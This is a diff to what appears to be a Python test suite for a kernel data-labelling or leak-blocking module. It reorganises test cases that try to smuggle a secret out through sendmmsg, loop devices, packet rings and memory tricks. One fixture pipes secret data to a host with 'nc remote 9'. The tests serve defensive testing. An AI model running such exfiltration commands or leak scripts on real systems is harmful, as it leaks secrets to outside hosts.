@@ -31,7 +31,7 @@ with socket.socket(socket.AF_INET, socket.SOCK_STREAM, client) as way:
     way.sendall(read())
 os.wait()
 """
-# The first message goes to a receiver of this machine, the second to the other host.
+# The first message goes to the connected receiver on this machine, the second to the other host.
 TWO_MESSAGES = SYSTEM + """
 class Part(ctypes.Structure):
     _fields_ = [("base", ctypes.c_char_p), ("length", ctypes.c_size_t)]
@@ -39,17 +39,16 @@ class Message(ctypes.Structure):
     _fields_ = [("name", ctypes.c_char_p), ("name_length", ctypes.c_uint32), ("parts", ctypes.POINTER(Part)),
                 ("part_count", ctypes.c_size_t), ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t),
                 ("flags", ctypes.c_size_t), ("sent", ctypes.c_size_t)]
-def message(host, port, data):
-    name = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(port), socket.inet_aton(host))
-    return Message(name, len(name), ctypes.pointer(Part(data, len(data))), 1, None, 0, 0, 0)
-here = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-here.bind(("127.0.0.1", 0))
-way = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+def message(name, data):
+    return Message(name, len(name or b""), ctypes.pointer(Part(data, len(data))), 1, None, 0, 0, 0)
+here, way = (socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(2))
+here.bind(("10.77.0.1", 0))
+way.connect(here.getsockname())
+remote = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(9), socket.inet_aton("10.77.0.2"))
 data = read()
-messages = (Message * 2)(message("127.0.0.1", here.getsockname()[1], data), message("10.77.0.2", 9, data))
-sent = system.sendmmsg(way.fileno(), messages, 2, 0)
-if sent == 1:
-    sent += system.sendmmsg(way.fileno(), ctypes.byref(messages, ctypes.sizeof(Message)), 1, 0)
+messages = (Message * 2)(message(None, data), message(remote, data))
+if system.sendmmsg(way.fileno(), messages, 2, 0) == 1:
+    system.sendmmsg(way.fileno(), ctypes.byref(messages, ctypes.sizeof(Message)), 1, 0)
 """
 # It writes the same byte at places that tell the secret, and another program looks where.
 POSITIONS = SYSTEM + """
@@ -158,7 +157,6 @@ with socket.create_connection(("10.77.0.2", 9)) as way:
     way.sendall(told)
 """
 
-
 DISK = "modprobe brd rd_nr=1 rd_size=8192; mke2fs -q /dev/ram0; mkdir disk; mount /dev/ram0 disk; "
 
 
@@ -172,6 +170,8 @@ def scripts():
         "multipath-server": multipath(0, 262),
         "multipath": multipath(262, 262),
         "multipath-client": multipath(262, 0),
+        "second-of-two-messages": snippet(TWO_MESSAGES),
+        "packet-ring": snippet(RING),
         "position-of-write": snippet(POSITIONS),
         "mapping-made-writable": snippet(MADE_WRITABLE.format(change="system.mprotect", rest="")),
         "mapping-made-writable-with-key": snippet(MADE_WRITABLE.format(change="system.pkey_mprotect", rest=", -1")),
@@ -199,11 +199,10 @@ LEAKS = [Leak(name, script) for name, script in scripts().items()] + [
 ]
 # The module refuses what takes no label, and tells so.
 REFUSED = [
-    Leak("second-of-two-messages", snippet(TWO_MESSAGES)),
     Leak("loop-device", "cp secret image; truncate -s 4096 image; modprobe loop; losetup /dev/loop7 image && head -c 55 /dev/loop7 | nc remote 9; "
          "losetup -d /dev/loop7"),
-    Leak("packet-ring", snippet(RING)),
-    Leak("command-to-disk", "modprobe sd_mod; modprobe scsi_debug dev_size_mb=8; until [[ -e /sys/block/sda ]]; do sleep 0.1; done\n" + snippet(COMMAND), passes=b"nothing"),
+    Leak("command-to-disk", "modprobe sd_mod; modprobe scsi_debug dev_size_mb=8; until [[ -e /sys/block/sda ]]; do sleep 0.1; done\n"
+         + snippet(COMMAND), passes=b"nothing"),
     Leak("key-updated", snippet(KEY), passes=b"x"),
     Leak("key-updated-by-odd-number", snippet(KEY.replace("syscall(250, 2, key, data", "syscall(250, ctypes.c_long(2 + (1 << 32)), key, data")),
          passes=b"x"),
